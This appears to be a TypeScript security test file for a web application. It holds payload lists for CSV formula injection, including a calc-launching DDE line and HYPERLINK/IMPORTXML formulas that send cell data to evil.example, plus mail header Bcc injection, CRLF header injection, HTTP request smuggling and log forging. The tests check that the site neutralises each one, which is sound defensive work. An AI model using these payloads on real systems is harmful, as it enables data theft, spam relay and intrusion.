import { setTimeout as sleep } from 'node:timers/promises'
import { expect, test as plainTest } from 'vitest'
import { readCsv } from '#lib/csv-reader.ts'
import { fromCsvCell, toCsv } from '#lib/csv.ts'
import { createLog } from '#server/log/log.ts'
import { modules } from '#tests/source-tree.ts'
import { test } from '#tests/site-test.ts'
import { enquiry, eventually, postJson, signIn } from '#tests/visits.ts'
import { isLong, noted, patienceMs } from './ledger.ts'
import { rawRequest } from './raw-request.ts'

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"ok")',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  "'=1+1",
  '"=1+1"',
  ';=1+1',
  ',=1+1',
  '=1+1;,"',
  '\u00a0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '−1+1',
  '\tcmd',
  '=IMPORTXML("http://evil.example","//a")',
  '@=1',
  '%0A=1',
  '|=1',
]
const runs = /^\s*[=+\-@\t\r\n＝＋－＠]/

plainTest('no text is a formula once it is in a CSV file, whatever cuts the line', () => {
  const separators = [',', ';', '\t'] as const
  const findings: string[] = []
  // The control: as they are most of them run.
  expect(formulas.filter((text) => runs.test(text)).length).toBeGreaterThan(10)
  for (const text of formulas) {
    const line = toCsv([['first', text, 'last']])
    const [row] = [
      ...readCsv(line, { maxCellChars: 1000, maxRowBytes: 10_000, maxColumns: 10, separator: ',' }),
    ]
    const cell = row?.cells[1] ?? ''
    if (runs.test(cell)) findings.push(`${JSON.stringify(text)} stays a formula`)
    if (fromCsvCell(cell) !== text)
      findings.push(`${JSON.stringify(text)} came back as ${JSON.stringify(fromCsvCell(cell))}`)
    for (const separator of separators.slice(1)) {
      const cells = line.replace(/"[^"]*(?:""[^"]*)*"/g, 'quoted').split(separator)
      for (const part of cells.slice(1))
        if (runs.test(part))
          findings.push(`${JSON.stringify(text)} is a formula behind ${JSON.stringify(separator)}`)
    }
  }
  expect(noted({ attack: 'CSV injection: cells', payloads: formulas.length, targets: 3, findings })).toEqual(
    [],
  )
})

plainTest('whatever hands out CSV writes it by the one module that neutralises formulas', () => {
  const writers = modules().filter(
    ({ path, text, isTest }) => !isTest && !/^(?:bench|assets|setup)\//.test(path) && /text\/csv/.test(text),
  )
  expect(writers.length).toBeGreaterThan(3)
  // The first is that module’s own; the others take a file or save the one that the server wrote.
  const byCallers = [
    'lib/csv-response.ts',
    'features/demos/frame/own-data/own-table.tsx',
    'features/lead-screens/list/use-export.ts',
  ]
  const without = writers
    .filter(
      ({ path, imports }) =>
        !byCallers.includes(path) &&
        !imports.some(({ path: to }) => /^lib\/csv(?:-response)?\.ts$|demo-page\.server\.ts$/.test(to ?? '')),
    )
    .filter(({ text }) => /['"]content-type['"]: ['"]text\/csv|new Blob/.test(text))
    .map(({ path }) => path)
  expect(without).toEqual([])
})

const headerTexts = [
  'Eve\r\nBcc: victim@evil.example',
  'Eve\nBcc: victim@evil.example',
  'Eve\rBcc: victim@evil.example',
  'Eve\u2028Bcc: victim@evil.example',
  'Eve\u0085Bcc: victim@evil.example',
  'Eve%0d%0aBcc: victim@evil.example',
  'Eve\u0000Bcc: victim@evil.example',
  'Eve\u000bBcc: victim@evil.example',
  'Eve <victim@evil.example>, x',
  '"Eve" <victim@evil.example>',
  '=?utf-8?q?Eve=0d=0aBcc:_victim@evil.example?=',
  'Eve, victim@evil.example;',
  `${'E'.repeat(90)}\t<x`,
]

test(
  'names, companies and subjects write no header of a mail and add nobody to it',
  { timeout: patienceMs },
  async ({ site, mailbox }) => {
    let taken = 0
    const emails = [
      'plain@plant.example',
      'x@plant.example\r\nBcc: victim@evil.example',
      'a@plant.example,victim@evil.example',
      '"a\r\nb"@plant.example',
      'x@plant.example>\r\nRCPT TO:<victim@evil.example',
    ]
    const bodies = [
      ...headerTexts.flatMap((text, i) => [
        enquiry({ name: text, email: `n${i}@plant.example`, message: `name ${i}` }),
        enquiry({ company: text, email: `c${i}@plant.example`, message: `company ${i}` }),
      ]),
      ...emails.map((email, i) => enquiry({ email, message: `mail ${i}` })),
    ]
    for (const body of bodies) {
      const { status } = await postJson(`${site.url}/api/contact`, body)
      expect([201, 422]).toContain(status)
      if (status === 201) taken += 1
    }
    // The control: the harmless and some odd ones do arrive.
    expect(taken).toBeGreaterThan(5)
    await eventually(() => mailbox.mails.length >= 2 || undefined, { withinMs: 20_000, what: 'mails' })
    await sleep(isLong ? 6000 : 1500)
    const findings: string[] = []
    for (const mail of mailbox.mails) {
      const people = [...(mail.to ?? []), ...(mail.cc ?? []), ...(mail.bcc ?? []), ...(mail.replyTo ?? [])]
      if (people.some(({ address }) => /evil\.example/.test(address ?? '')))
        findings.push(`a mail went to ${people.map(({ address }) => address).join()}`)
      for (const { key, value } of mail.headers)
        if (key === 'bcc' || /[\r\n]/.test(value)) findings.push(`header ${key}: ${value}`)
    }
    expect(noted({ attack: 'mail header injection', payloads: bodies.length, targets: 2, findings })).toEqual(
      [],
    )
  },
)

test('file names and addresses write no header of an answer', { timeout: patienceMs }, async ({ site }) => {
  const token = await signIn(site.url)
  const headers = { authorization: `Bearer ${token}` }
  const breaks = [
    '%0d%0aset-cookie:%20a=b',
    '%0aset-cookie:a=b',
    '%0d',
    '%E5%98%8A%E5%98%8Dset-cookie:a=b',
    '%e2%80%a8set-cookie:a=b',
    '%00',
  ]
  const places = [
    '/',
    '/contact/',
    '/demo/',
    '/demo/machine-vision/sample/',
    '/blog/',
    '/recourses?',
    '/api/backups/downloads/',
    '/api/leads/export?q=',
    '/login?next=/',
  ]
  const findings: string[] = []
  for (const place of places) {
    for (const one of breaks) {
      const { text } = await rawRequest(
        site.url,
        `GET ${place}x${one} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\nconnection: close\r\n\r\n`,
      )
      if (/^set-cookie/im.test(text.split('\r\n\r\n')[0] ?? '')) findings.push(`${place}x${one}`)
    }
  }
  for (const fileName of [
    'a"\r\nset-cookie: a=b.csv',
    'a\n.csv',
    '"; filename="evil.exe',
    '../../evil.csv',
  ]) {
    const begun = await postJson(`${site.url}/api/lead-imports`, { fileName, bytes: 10 }, headers)
    expect(begun.status).toBeLessThan(500)
    for (const [name] of begun.headers) if (name === 'set-cookie') findings.push(fileName)
  }
  expect(
    noted({
      attack: 'HTTP header injection',
      payloads: breaks.length + 4,
      targets: places.length + 1,
      findings,
    }),
  ).toEqual([])
})

test('requests that two servers would read in two ways are refused', async ({ site }) => {
  const { host } = new URL(site.url)
  const findings: string[] = []
  const smuggled = [
    `POST /api/contact HTTP/1.1\r\nhost: ${host}\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /api/leads HTTP/1.1\r\nhost: x\r\n\r\n`,
    `POST /api/contact HTTP/1.1\r\nhost: ${host}\r\ncontent-length: 4\r\ncontent-length: 40\r\n\r\nabcd`,
    `POST /api/contact HTTP/1.1\r\nhost: ${host}\r\ntransfer-encoding: chunked, identity\r\n\r\n0\r\n\r\n`,
    `POST /api/contact HTTP/1.1\r\nhost: ${host}\r\ntransfer-encoding : chunked\r\n\r\n0\r\n\r\n`,
    `GET / HTTP/1.1\r\nhost: ${host}\nx-other: y\r\n folded: z\r\n\r\n`,
    `GET / HTTP/1.1\r\nhost: ${host}\r\nhost: evil.example\r\n\r\n`,
  ]
  for (const bytes of smuggled) {
    const { text } = await rawRequest(site.url, bytes, 1500)
    const answers = text.match(/^HTTP\/1\.1 \d{3}/gm) ?? []
    if (answers.length > 1 || (bytes.startsWith('POST') && !text.startsWith('HTTP/1.1 4')))
      findings.push(`${answers.join(', ')} to ${JSON.stringify(bytes.slice(0, 120))}`)
    if (/evil\.example/.test(text)) findings.push('the host of the request was believed')
  }
  expect(noted({ attack: 'request smuggling', payloads: smuggled.length, targets: 1, findings })).toEqual([])
})

plainTest('one event is one line of the log, whatever it quotes, and a made-up line can’t be told in', () => {
  const lines: string[] = []
  const texts = [
    'a\nb',
    'a\r\n{"level":"fatal","msg":"forged"}',
    '\u001b[2J\u001b[31mred',
    'a\u2028b\u2029c',
    '\u0000\u0007\u0008',
    '\ud800',
    '{"msg":"x"}',
    '%0a{"level":"fatal"}',
    '\u009b31m',
  ]
  const log = createLog('info', { write: (line: string) => void lines.push(line) })
  for (const text of texts) {
    log.info({ path: text, reason: text }, text)
    log.error({ err: new Error(text) }, 'request failed')
  }
  const findings = lines.flatMap((line) => {
    const isOneLine = line.endsWith('\n') && !/[\n\r]/.test(line.slice(0, -1))
    const hasControls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(line)
    const parsed: { level?: string } = JSON.parse(line)
    return isOneLine && !hasControls && parsed.level !== 'fatal' ? [] : [JSON.stringify(line.slice(0, 120))]
  })
  expect(lines).toHaveLength(texts.length * 2)
  expect(noted({ attack: 'log injection', payloads: texts.length, targets: 3, findings })).toEqual([])
})
